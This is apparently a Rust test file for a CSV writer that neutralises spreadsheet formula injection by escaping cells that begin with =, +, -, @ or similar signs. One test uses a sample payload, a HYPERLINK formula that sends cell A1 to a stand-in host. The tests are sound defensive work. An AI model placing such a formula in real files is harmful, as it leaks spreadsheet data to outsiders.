// SPDX-License-Identifier: EUPL-1.2
use proptest::prelude::*;

use super::*;

fn read(text: &str, separator: char) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{feff}').expect("the mark stands first");
    let mut reader = csv::ReaderBuilder::new();
    let reader = reader.has_headers(false).flexible(true).delimiter(u8::try_from(separator).expect("ASCII"));
    let rows = reader.from_reader(text.as_bytes()).into_records();
    rows.map(|row| row.expect("a row reads back").iter().map(str::to_owned).collect()).collect()
}

prop_compose! {
    /// A cell, more often than not one that somebody made to be computed.
    fn any_cell()(
        before in prop::sample::select(&["", "", " ", "\u{a0}", "\u{feff}", "\t", "\r", "\r\n"][..]),
        mark in prop::sample::select(&["", "=", "+", "-", "@", "\t=", "\u{ff1d}", "'"][..]),
        text in "\\PC{0,12}",
    ) -> String {
        format!("{before}{mark}{text}")
    }
}

proptest! {
    /// No cell starts, spaces apart, with a sign that a spreadsheet computes; and nothing but an apostrophe was added.
    #[test]
    fn no_cell_is_computed(
        rows in prop::collection::vec(prop::collection::vec(any_cell(), 1..5), 1..6),
        separator in prop::sample::select(&[';', ','][..]),
    ) {
        let written = csv(separator, rows.clone());
        let back = read(&written, separator);
        prop_assert_eq!(back.len(), rows.len());
        for (cells, originals) in back.iter().zip(&rows) {
            prop_assert_eq!(cells.len(), originals.len());
            for (cell, original) in cells.iter().zip(originals) {
                let first = cell.trim_start_matches([' ', '\u{a0}', '\u{feff}']).chars().next();
                prop_assert!(!first.is_some_and(|first| "=+-@\t\r\n\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}".contains(first)), "{:?}", cell);
                let escaped = format!("'{original}");
                prop_assert!(cell == original || *cell == escaped);
            }
        }
    }

    /// What is no danger is written as it is.
    #[test]
    fn plain_text_stays_plain(text in "[a-zA-Z0-9éèà][a-zA-Z0-9éèà =+@-]{0,20}") {
        prop_assert_eq!(safe_cell(&text), text.as_str());
    }
}

#[test]
fn a_formula_is_shown_and_not_computed() {
    assert_eq!(safe_cell(r#"=HYPERLINK("http://x/?"&A1,"ok")"#), r#"'=HYPERLINK("http://x/?"&A1,"ok")"#);
    assert_eq!(safe_cell("+33 6 12 34 56 78"), "'+33 6 12 34 56 78");
    assert_eq!(safe_cell("Jean-Pierre"), "Jean-Pierre");
    insta::assert_snapshot!(csv(';', [vec!["Nom".into(), String::new()], vec!["=1;2".into(), "a\"b".into()]]).replace("\r\n", "⏎").replace('\u{feff}', "(mark)"), @r#"(mark)Nom;""⏎"'=1;2";"a""b"⏎"#);
}
